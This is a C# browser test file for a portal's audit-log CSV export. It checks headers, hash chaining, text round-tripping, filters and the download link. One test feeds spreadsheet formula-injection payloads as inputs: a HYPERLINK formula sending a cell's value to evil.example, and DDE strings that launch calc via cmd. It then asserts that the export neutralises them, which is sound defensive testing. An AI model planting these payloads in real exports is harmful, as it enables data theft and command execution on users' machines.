using System.Globalization;
using IdentityBridge.Application.Audit;
using IdentityBridge.Domain.Audit;
using Microsoft.Playwright;

namespace IdentityBridge.Browser.Tests;

/// <summary>The audit log as a file, as the running portal gives it. Who may have it is in <see cref="RefusalTests" />.</summary>
[Collection(nameof(Situation))]
public sealed class AuditExportTests(PortalFixture portal, Situation situation)
{
    private static readonly string[] Columns =
    [
        "Sequence",
        "At",
        "Action",
        "Actor",
        "SubjectKind",
        "SubjectId",
        "Summary",
        "PreviousHash",
        "Hash",
    ];

    [Fact]
    public async Task Export_OfEverything_IsTheWholeChainOldestFirst()
    {
        var answer = await GetAsync("");
        var rows = await RowsAsync(answer);

        answer.Headers["content-type"].ShouldBe("text/csv; charset=utf-8");
        answer
            .Headers["content-disposition"]
            .ShouldMatch(@"attachment; filename=""?identitybridge-audit-\d{4}-\d\d-\d\d\.csv""?");
        answer.Headers["cache-control"].ShouldBe("no-store");
        rows[0].ShouldBe(Columns);
        rows[1][7].ShouldBe(AuditChain.Genesis);
        for (var i = 2; i < rows.Count; i++)
        {
            rows[i][0].ShouldBe((i).ToString(CultureInfo.InvariantCulture));
            rows[i][7].ShouldBe(rows[i - 1][8]);
        }
    }

    [Theory]
    [InlineData("Plain, with a comma")]
    [InlineData("With \"quotes\" in it")]
    [InlineData("On two\r\nlines; and a semicolon")]
    [InlineData("Grüße aus Łódź, 東京 and 🙂")]
    public async Task Export_OfAwkwardText_GivesItBackUnchanged(string text) =>
        (await ExportedAsync(text)).ShouldBe((text, text));

    /// <summary>What a spreadsheet would run as a formula begins with a character that makes it text; nothing else of it changes.</summary>
    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/\"&A1,\"Open\")")]
    [InlineData("+1+cmd|' /C calc'!A0")]
    [InlineData("-2+3+cmd|' /C calc'!A0")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    public async Task Export_OfAFormula_DisarmsIt(string text)
    {
        var (actor, summary) = await ExportedAsync(text);

        foreach (var cell in new[] { actor, summary })
        {
            cell.ShouldBe("'" + text);
        }
    }

    [Fact]
    public async Task Export_WithAFilter_HasWhatThePageShowsAndNothingElse()
    {
        var word = $"needle{Guid.CreateVersion7():N}";
        await WriteAsync("request.exported", "Ada Brandt", $"First {word}");
        await WriteAsync("request.exported", word, "By somebody of that name");
        await WriteAsync("requests.exported", "Ada Brandt", $"Another group of actions {word}");
        await WriteAsync("access.exported", "Ada Brandt", $"100% of {word}_");

        (await SummariesAsync($"q={word}")).Length.ShouldBe(4);
        (await SummariesAsync($"q={word.ToUpperInvariant()}&action=request")).ShouldBe([
            $"First {word}",
            "By somebody of that name",
        ]);
        (await SummariesAsync($"q={word}&action=access.exported")).ShouldBe([$"100% of {word}_"]);
        (await SummariesAsync($"q={Uri.EscapeDataString("0% of " + word)}")).ShouldBe([$"100% of {word}_"]);
        (await SummariesAsync($"q={word}%25_")).ShouldBeEmpty();
        var later = Uri.EscapeDataString(DateTimeOffset.MaxValue.AddYears(-1).ToString("O", CultureInfo.InvariantCulture));
        (await SummariesAsync($"q={word}&from={later}")).ShouldBeEmpty();
        (await SummariesAsync($"q={word}&until={later}")).Length.ShouldBe(4);
        (await SummariesAsync($"q={word}&until=2020-01-01T00:00:00%2B02:00")).ShouldBeEmpty();
        (await SummariesAsync($"q={word}&from=2020-01-01T00:00:00%2B02:00")).Length.ShouldBe(4);
    }

    [Theory]
    [InlineData("from=yesterday")]
    [InlineData("until=31.12.2026")]
    public async Task Export_WithATimeThatIsNone_IsRefused(string query) => (await GetAsync(query)).Status.ShouldBe(400);

    [Fact]
    public async Task ExportLink_OnTheFilteredPage_GivesTheSameEntries()
    {
        var word = $"needle{Guid.CreateVersion7():N}";
        await WriteAsync("access.exported", "Ada Brandt", $"Shown {word}");
        await WriteAsync("request.exported", "Ada Brandt", $"Not shown {word}");
        var page = await situation.PageOfAsync("auditor");
        await page.GotoAsync($"{portal.Portal.Address}/audit?q={word}&action=access&from=2020-01-01");
        await Assertions.Expect(page.Locator("main tbody tr")).ToHaveCountAsync(1);

        var download = await page.RunAndWaitForDownloadAsync(() =>
            page.GetByRole(AriaRole.Link, new() { Name = "Export CSV" }).ClickAsync()
        );

        var rows = Parse(await File.ReadAllTextAsync(await download.PathAsync()));
        rows.Skip(1).Select(r => r[6]).ShouldBe([$"Shown {word}"]);
    }

    private async Task<(string Actor, string Summary)> ExportedAsync(string text)
    {
        var action = $"test.{Guid.CreateVersion7():N}";
        await WriteAsync(action, text, text);
        var row = (await RowsAsync(await GetAsync($"action={action}"))).Skip(1).Single();
        return (row[3], row[6]);
    }

    private Task WriteAsync(string action, string actor, string summary) =>
        portal
            .Host.Get<WriteAudit>()
            .ExecuteAsync(new AuditDraft(action, null, actor, "test", "1", summary), CancellationToken.None);

    private async Task<string[]> SummariesAsync(string query) =>
        [.. (await RowsAsync(await GetAsync(query))).Skip(1).Select(r => r[6])];

    private async Task<IAPIResponse> GetAsync(string query) =>
        await (await situation.PageOfAsync("auditor")).APIRequest.GetAsync($"{portal.Portal.Address}/audit/export.csv?{query}");

    private static async Task<IReadOnlyList<string[]>> RowsAsync(IAPIResponse answer)
    {
        answer.Status.ShouldBe(200);
        return Parse(await answer.TextAsync());
    }

    /// <summary>RFC 4180, read by hand: a reader that trims or guesses would hide what is wrong.</summary>
    private static List<string[]> Parse(string csv)
    {
        List<string[]> rows = [];
        List<string> row = [];
        var cell = new System.Text.StringBuilder();
        var quoted = false;
        for (var i = 0; i < csv.Length; i++)
        {
            var c = csv[i];
            if (quoted && c == '"' && i + 1 < csv.Length && csv[i + 1] == '"')
                cell.Append(csv[++i]);
            else if (c == '"')
                quoted = !quoted;
            else if (quoted || c is not (',' or '\r' or '\n'))
                cell.Append(c);
            else if (c != '\r')
            {
                row.Add(cell.ToString());
                cell.Clear();
                if (c == ',')
                    continue;
                rows.Add([.. row]);
                row.Clear();
            }
        }
        quoted.ShouldBeFalse();
        return rows;
    }
}
